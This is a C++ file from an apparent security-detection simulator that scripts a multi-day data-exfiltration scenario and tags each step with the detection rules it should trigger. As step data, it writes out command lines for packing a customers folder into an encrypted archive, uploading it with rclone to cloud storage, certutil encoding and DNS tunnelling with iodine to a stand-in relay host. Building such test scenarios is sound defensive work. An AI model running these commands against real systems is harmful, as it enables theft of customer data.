#include "simulate/story_list.h"

namespace vedette::simulate {
namespace {

constexpr std::string_view kCopy =
    R"(copy "{work}\export" remote:out --config C:\Users\{user}\AppData\Local\Temp\rc\r.conf --transfers 2 --bwlimit 300k)";
constexpr std::string_view kPack =
    R"(a -p9dK2x -mhe=on "{work}\export\q{n}.7z" "{work}\customers")";

// One day's quiet upload: pack, copy, and what the network shows.
#define QUIET_UPLOAD(DAY, AT)                                                                     \
  {.day = DAY,                                                                                    \
   .at = AT,                                                                                      \
   .seen_by = "AD",                                                                               \
   .what = What::kProcess,                                                                        \
   .program = "7z.exe",                                                                           \
   .parent = "cmd.exe",                                                                           \
   .command = kPack},                                                                             \
      {.day = DAY,                                                                                \
       .at = AT,                                                                                  \
       .seen_by = "A",                                                                            \
       .what = What::kProcess,                                                                    \
       .program = "rclone.exe",                                                                   \
       .parent = "cmd.exe",                                                                       \
       .command = kCopy,                                                                          \
       .expect = "Exfil-Tunnel-Tools-Exec A-Exfil-Tunnel-Tools-Exec"},                            \
  {                                                                                               \
    .day = DAY, .at = AT, .seen_by = "A", .what = What::kConnection, .program = "rclone.exe",     \
    .command = kCopy, .target = "g.api.mega.co.nz", .port = 443, .bytes = 21'000'000, .times = 3, \
    .every = 300                                                                                  \
  }

}  // namespace

std::span<const Step> SlowExfiltrationSteps() {
  static const Step kSteps[] = {
      // Tools come in.
      {.day = 0,
       .at = "12:14",
       .seen_by = "D",
       .what = What::kWebPage,
       .program = "chrome.exe",
       .target = "https://rclone.org/downloads/",
       .port = 443,
       .times = 2},
      {.day = 0,
       .at = "12:17",
       .seen_by = "AD",
       .what = What::kFileCreated,
       .program = "chrome.exe",
       .name = "rclone-current.zip",
       .folder = "C:\\Users\\{user}\\Downloads",
       .bytes = 21'000'000},
      {.day = 0,
       .at = "12:40",
       .seen_by = "D",
       .what = What::kWebPage,
       .program = "chrome.exe",
       .target = "https://mega.nz/register",
       .port = 443,
       .times = 3,
       .every = 100,
       .expect = "WEB-FS"},
      // A little each day.
      QUIET_UPLOAD(1, "12:31"),
      QUIET_UPLOAD(2, "18:05"),
      QUIET_UPLOAD(4, "12:22"),
      QUIET_UPLOAD(5, "17:48"),
      QUIET_UPLOAD(7, "12:36"),
      // A second way, for the last and largest part.
      {.day = 9,
       .at = "11:40",
       .seen_by = "D",
       .what = What::kWebPage,
       .program = "chrome.exe",
       .target = "https://mega.nz/fm",
       .port = 443,
       .times = 14,
       .every = 60,
       .expect = "WEB-FS WEB-OU-FS"},
      {.day = 9,
       .at = "11:58",
       .seen_by = "AD",
       .what = What::kProcess,
       .program = "certutil.exe",
       .parent = "cmd.exe",
       .command = R"(-encode "{work}\export\all.7z" C:\Users\{user}\AppData\Local\Temp\rc\all.txt)",
       .expect = "Certutil-Encode A-Certutil-Encode"},
      {.day = 9,
       .at = "12:02",
       .seen_by = "AD",
       .what = What::kProcess,
       .program = "tapinstall.exe",
       .parent = "cmd.exe",
       .command = "install OemVista.inf tap0901",
       .expect = "Tap-Installer A-Tap-Installer"},
      {.day = 9,
       .at = "12:06",
       .seen_by = "AD",
       .what = What::kProcess,
       .program = "iodine.exe",
       .parent = "cmd.exe",
       .command = "-f -P q7 t1.dn-relay.example",
       .expect = "DNS-Exfiltration-Tools-Exec A-DNS-Exfiltration-Tools-Exec"},
      {.day = 9,
       .at = "12:07",
       .seen_by = "M",
       .what = What::kNameLookup,
       .target = "z3ab1x9qk2m0.t1.dn-relay.example",
       .ip = "10.10.1.1",
       .port = 53,
       .times = 40,
       .every = 4},
      {.day = 9,
       .at = "12:15",
       .seen_by = "A",
       .what = What::kFileCreated,
       .program = "rclone.exe",
       .command = kCopy,
       .name = "r.log",
       .folder = "C:\\Users\\{user}\\AppData\\Local\\Temp\\rc",
       .bytes = 4'000,
       .expect = "FA-TEMP-DIRECTORY-F"},
      QUIET_UPLOAD(9, "12:18"),
  };
  return kSteps;
}
#undef QUIET_UPLOAD

}  // namespace vedette::simulate
